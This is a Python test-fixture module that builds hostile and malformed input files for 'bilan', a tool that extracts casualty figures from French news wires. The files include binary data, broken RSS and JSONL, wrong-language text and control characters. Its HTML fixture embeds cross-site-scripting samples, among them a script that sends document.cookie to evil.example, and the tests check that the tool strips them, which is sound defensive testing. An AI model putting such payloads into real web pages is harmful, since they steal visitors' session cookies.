"""The bad-input matrix of issue 11: hostile files and what bilan must make of each.

Every case is a file (name + bytes) and its expected outcomes, one per article the file holds:
``Expect.refused(SomeInputError)`` for a typed refusal, ``Expect.partial("words")`` for a result
that carries a warning with those words (the message of a reader or a ``Document`` warning: the
store keeps messages), or ``Expect.partial()`` for a clean result. Used by test_reliability_inputs (in process and in a
resource-limited `bilan ingest` batch).
"""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from dataclasses import dataclass, field

import jsonschema

from bilan.contract import schema, to_contract
from bilan.errors import (
    BilanError,
    BinaryInputError,
    EmptyInputError,
    FormatError,
    LanguageError,
    TooLargeError,
)
from bilan.model import Document

#: a plain French wire paragraph (written for these tests)
FRENCH = (
    "Alep, 30 novembre 2016 (AFP) - Au moins douze civils ont été tués lundi dans des frappes "
    "aériennes sur les quartiers est d'Alep, a annoncé l'Observatoire syrien des droits de "
    "l'homme (OSDH). Une trentaine de personnes ont été blessées, selon la même source.\n"
)

ENGLISH = (
    "At least twelve civilians were killed on Monday in air strikes on the eastern districts "
    "of Aleppo, the Syrian Observatory for Human Rights said. Around thirty people were "
    "wounded, according to the same source, and hundreds of families fled the city overnight."
)

ARABIC = (
    "قتل ما لا يقل عن اثني عشر مدنيا يوم الاثنين في غارات جوية على الأحياء الشرقية لمدينة حلب، "
    "بحسب المرصد السوري لحقوق الإنسان. وأصيب نحو ثلاثين شخصا بجروح، وفقا للمصدر نفسه."
)

#: one sentence of 20,000 words: no full stop, no line break
LONG_SENTENCE_WORDS = 20_000
HUGE_BYTES = 50 * 1024 * 1024


@dataclass(frozen=True)
class Expect:
    error: type[BilanError] | None = None
    warning: str | None = None

    @classmethod
    def refused(cls, error: type[BilanError]) -> Expect:
        return cls(error=error)

    @classmethod
    def partial(cls, warning: str | None = None) -> Expect:
        return cls(warning=warning)


@dataclass(frozen=True)
class Case:
    name: str
    filename: str
    data: bytes
    expect: tuple[Expect, ...]
    #: words a stored/extracted text must not contain (scripts of an HTML page)
    absent: tuple[str, ...] = field(default=())


def long_sentence(words: int = LONG_SENTENCE_WORDS, seed: int = 11) -> str:
    vocab = [
        "les",
        "civils",
        "ont",
        "fui",
        "la",
        "ville",
        "de",
        "Homs",
        "où",
        "des",
        "combats",
        "ont",
        "fait",
        "au",
        "moins",
        "douze",
        "morts",
        "et",
        "des",
        "blessés",
        "selon",
        "l'OSDH",
        "tandis",
        "que",
        "les",
        "secours",
        "cherchaient",
        "encore",
        "des",
        "survivants",
    ]
    rnd = random.Random(seed)
    return "Homs, 3 mars 2012 - " + " ".join(rnd.choice(vocab) for _ in range(words))


def huge_text(size: int = HUGE_BYTES) -> bytes:
    block = FRENCH.encode("utf-8")
    return block * (size // len(block) + 1)


HTML_PAGE = b"""<!DOCTYPE html><html><head><title>Syrie : frappes sur Alep</title>
<script>var morts = 999; document.write('<p>999 morts selon le script</p>');</script>
<style>p { color: red } /* 888 blesses */</style></head>
<body onload="alert('xss')"><div class="article"><h1>Syrie : frappes sur Alep
<p>Au moins douze civils ont \xc3\xa9t\xc3\xa9 tu\xc3\xa9s lundi dans des frappes a\xc3\xa9riennes sur
les quartiers est d'Alep, a annonc\xc3\xa9 l'Observatoire syrien des droits de l'homme.<b>Une
trentaine de personnes ont \xc3\xa9t\xc3\xa9 bless\xc3\xa9es</i>, selon la m\xc3\xaame source.
<p>Les secours cherchaient encore des survivants dans les d\xc3\xa9combres mardi matin, selon des
habitants joints par t\xc3\xa9l\xc3\xa9phone.<img src=x onerror="alert(1)">
<script>fetch('http://evil.example/steal?c=' + document.cookie)</script>
</div><table><tr><td>non ferm\xc3\xa9
</body>"""

RSS_FEED = """<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>Dépêches</title>
<item><title>Syrie : douze civils tués à Alep</title><guid>depeche-1</guid>
<pubDate>Wed, 30 Nov 2016 10:00:00 GMT</pubDate>
<description><![CDATA[<p>Au moins douze civils ont été tués lundi dans des frappes aériennes
sur les quartiers est d'Alep, a annoncé l'Observatoire syrien des droits de l'homme.</p>]]>
</description></item>
<item><title></title><description></description></item>
<item><title>Entrée cassée<description>Une trentaine de personnes ont été blessées à Homs
mardi, selon l'OSDH &amp; des sources médicales &nbsp; <b>non fermé</description></item>
<item><title>Date illisible</title><pubDate>le 45 du mois</pubDate>
<description>Trois soldats ont été tués mercredi dans une embuscade près de Deraa, a indiqué
l'armée syrienne dans un communiqué.</description></item>
</channel>"""


def jsonl_records() -> bytes:
    lines = [
        json.dumps(
            {"id": "ok-1", "text": FRENCH.replace("douze", "onze"), "published": "2016-11-30"}
        ),
        '{"id": "broken", "text": "Au moins douze morts',
        "[1, 2, 3]",
        json.dumps({"id": "no-text", "title": "Sans texte"}),
        json.dumps({"id": "number-text", "text": 12}),
        json.dumps({"id": "blank", "text": "   \n\t"}),
        json.dumps({"id": "bad-date", "text": FRENCH, "published": "hier soir"}),
        "\x00\x01garbage",
        json.dumps({"id": "ok-2", "text": FRENCH.replace("douze", "quinze"), "published": None}),
    ]
    return "\n".join(lines).encode("utf-8")


ABSURD = (
    "Damas, 4 mars 2012 - Un internaute affirme que 10^100 morts ont été recensés. "
    "Au moins 1" + "0" * 400 + " personnes auraient été tuées, selon un compte anonyme. "
    "Mille milliards de milliards de personnes ont été déplacées, selon la même source. "
    "Le bilan fait état de 99999999999999999999999 blessés. "
    "Selon l'OSDH, huit civils ont été tués dimanche à Deraa."
)

CONTROLS = (
    "Deraa, 5 mars 2012 (AFP) -\u0007 Au moins\u200f 12 personnes ont été\u200b tuées\u202e "
    "lundi à Deraa\x00, a indiqué l'OSDH\u2066.\u2069 Selon\u0085 l'ONU, \u061c« la situation "
    "est\x1b[31m grave »\ufeff, a déclaré un porte-parole.\u200e Trois blessés\x7f ont été évacués."
)


def cases() -> list[Case]:
    """The matrix (the 50 MB text is built lazily by the tests that need it)."""
    return [
        Case("empty", "empty.txt", b"", (Expect.refused(EmptyInputError),)),
        Case(
            "whitespace",
            "whitespace.txt",
            " \n\t\r\n\u00a0\u3000\n".encode(),
            (Expect.refused(EmptyInputError),),
        ),
        Case(
            "binary",
            "binary.txt",
            random.Random(3).randbytes(4096),
            (Expect.refused(BinaryInputError),),
        ),
        Case(
            "pdf",
            "report.txt",
            b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n",
            (Expect.refused(BinaryInputError),),
        ),
        Case(
            "invalid-utf8",
            "invalid-utf8.txt",
            FRENCH.encode("utf-8").replace(b"lundi", b"lun\xff\xfedi"),
            (Expect.partial("not valid UTF-8"),),
        ),
        Case(
            "latin-1",
            "latin1.txt",
            FRENCH.replace("douze", "treize").encode("latin-1"),
            (Expect.partial("decoded as"),),
        ),
        Case("html", "page.html", HTML_PAGE, (Expect.partial(),), absent=("999", "alert", "evil")),
        Case(
            "rss",
            "feed.rss",
            RSS_FEED.encode("utf-8"),
            (
                Expect.partial(),
                Expect.refused(EmptyInputError),  # an empty entry
                Expect.refused(EmptyInputError),  # an unclosed <title> swallows the entry
                Expect.partial(),  # an unreadable pubDate: the entry is read, undated
            ),
        ),
        Case(
            "jsonl",
            "records.jsonl",
            jsonl_records(),
            (
                Expect.partial(),
                Expect.refused(FormatError),
                Expect.refused(FormatError),
                Expect.refused(FormatError),
                Expect.refused(FormatError),
                Expect.refused(EmptyInputError),
                Expect.refused(FormatError),
                Expect.refused(BinaryInputError),  # the line of NUL-led garbage, alone
                Expect.partial(),
            ),
        ),
        Case("english", "english.txt", ENGLISH.encode(), (Expect.refused(LanguageError),)),
        Case("arabic", "arabic.txt", ARABIC.encode(), (Expect.refused(LanguageError),)),
        Case("absurd-numbers", "absurd.txt", ABSURD.encode(), (Expect.partial("left out"),)),
        Case(
            "controls-rtl",
            "controls.txt",
            CONTROLS.replace("\x00", "").encode(),  # a NUL byte makes a file binary (nul-byte)
            (Expect.partial("invisible formatting"),),
        ),
        Case("nul-byte", "nul.txt", CONTROLS.encode(), (Expect.refused(BinaryInputError),)),
    ]


def case(name: str) -> Case:
    return next(c for c in cases() if c.name == name)


def slow_cases() -> list[Case]:
    """The two cases whose size makes them slow: run once, in the resource-limited batch."""
    return [
        Case(
            "long-sentence",
            "long-sentence.txt",
            long_sentence().encode(),
            (Expect.partial("without a sentence end"),),
        ),
        Case("huge-50mb", "huge.txt", huge_text(), (Expect.refused(TooLargeError),)),
    ]


def check_document(doc: Document) -> None:
    """Evidence slices the article text; the contract is strict JSON that fits its schema."""
    data = to_contract(doc)
    text = doc.article.text
    for evidence in evidence_of(data):
        assert 0 <= evidence["start"] <= evidence["end"] <= len(text)
        assert text[evidence["start"] : evidence["end"]] == evidence["text"]
    json.dumps(data, allow_nan=False)
    jsonschema.validate(data, schema())


def evidence_of(node: object) -> Iterator[dict[str, object]]:
    """Every evidence object anywhere in a contract document."""
    if isinstance(node, dict):
        if {"start", "end", "text"} <= node.keys() and isinstance(node["start"], int):
            yield node
        for value in node.values():
            yield from evidence_of(value)
    elif isinstance(node, list):
        for value in node:
            yield from evidence_of(value)
